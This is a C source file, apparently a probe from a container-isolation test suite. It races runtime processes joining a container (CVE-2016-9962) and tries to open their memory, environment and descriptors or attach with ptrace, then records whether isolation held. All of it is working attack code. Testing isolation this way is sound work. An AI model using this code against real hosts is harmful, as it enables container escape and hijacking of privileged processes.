/*
 * tracejoin: get hold of a process while it joins the jail, when it still has
 * what the outside gave it (CVE-2016-9962).
 *
 *	tracejoin SECONDS FILE NAME...
 *
 * Watches for processes whose name (/proc/PID/comm) is one of those of the
 * runtime, and tries on each: its memory, descriptors, directory, root,
 * environment, ptrace(2), pidfd_getfd(2), process_vm_readv(2).  What succeeds
 * counts only when the process still had that name afterwards: with another
 * one it is the command, and the jail's own.  FILE is made when it has been
 * refused often enough.
 */
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#define ENOUGH 40

static char **names;
static int seen, refused;

static bool joins(const char *pid)
{
	char path[300], comm[64] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return false;
	comm[strcspn(comm, "\n")] = '\0';
	for (char **p = names; *p; p++)
		if (!strcmp(*p, comm))
			return true;
	return false;
}

static void file_try(const char *pid, const char *name, int flags)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	fd = open(path, flags | O_CLOEXEC);
	if (fd >= 0) {
		if (joins(pid))
			escaped("%s of a joining process", path);
		close(fd);
	} else if (errno == EACCES || errno == EPERM) {
		refused++;
	}
}

static void trace_try(const char *pid)
{
	pid_t p = atoi(pid);
	struct iovec l = {(char[8]){0}, 8}, r = {(void *)0x400000, 8};
	int fd, got;

	fd = (int)syscall(SYS_pidfd_open, p, 0);
	if (fd >= 0) {
		got = (int)syscall(SYS_pidfd_getfd, fd, 0, 0);
		if (got >= 0 && joins(pid))
			escaped("descriptor 0 of joining process %s", pid);
		close(fd);
	}
	if (process_vm_readv(p, &l, 1, &r, 1, 0) > 0 && joins(pid))
		escaped("memory of joining process %s", pid);
	if (ptrace(PTRACE_SEIZE, p, NULL, NULL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, p, NULL, NULL);
	waitpid(p, NULL, __WALL);
	if (joins(pid)) {
		kill(p, 9);
		escaped("joining process %s is traced", pid);
	}
	ptrace(PTRACE_DETACH, p, NULL, NULL);
}

static void attack(const char *pid)
{
	file_try(pid, "mem", O_RDWR);
	file_try(pid, "environ", O_RDONLY);
	file_try(pid, "exe", O_PATH);
	file_try(pid, "cwd", O_PATH);
	file_try(pid, "root", O_PATH);
	file_try(pid, "maps", O_RDONLY);
	for (int fd = 0; fd < 16; fd++) {
		char name[16];

		snprintf(name, sizeof(name), "fd/%d", fd);
		file_try(pid, name, O_PATH);
	}
	trace_try(pid);
}

int main(int argc, char **argv)
{
	DIR *proc = opendir("/proc");
	struct dirent *de;
	time_t end, least = 0;

	if (argc < 4 || !proc)
		broken("usage: tracejoin SECONDS FILE NAME..., or no /proc");
	names = argv + 3;
	end = time(NULL) + atoi(argv[1]);
	dprintf(1, "ready\n");
	do {
		rewinddir(proc);
		while ((de = readdir(proc))) {
			if (de->d_name[0] < '2' || de->d_name[0] > '9')
				if (de->d_name[0] != '1' || !de->d_name[1])
					continue;
			if (atoi(de->d_name) == getpid() || !joins(de->d_name))
				continue;
			if (!seen++)
				least = time(NULL) + 2;
			attack(de->d_name);
		}
	} while (time(NULL) < end && (refused < ENOUGH || time(NULL) < least));
	close(open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	if (!seen || !refused)
		broken("joining processes: %d seen, %d times refused", seen,
		       refused);
	held("%d times refused", refused);
}
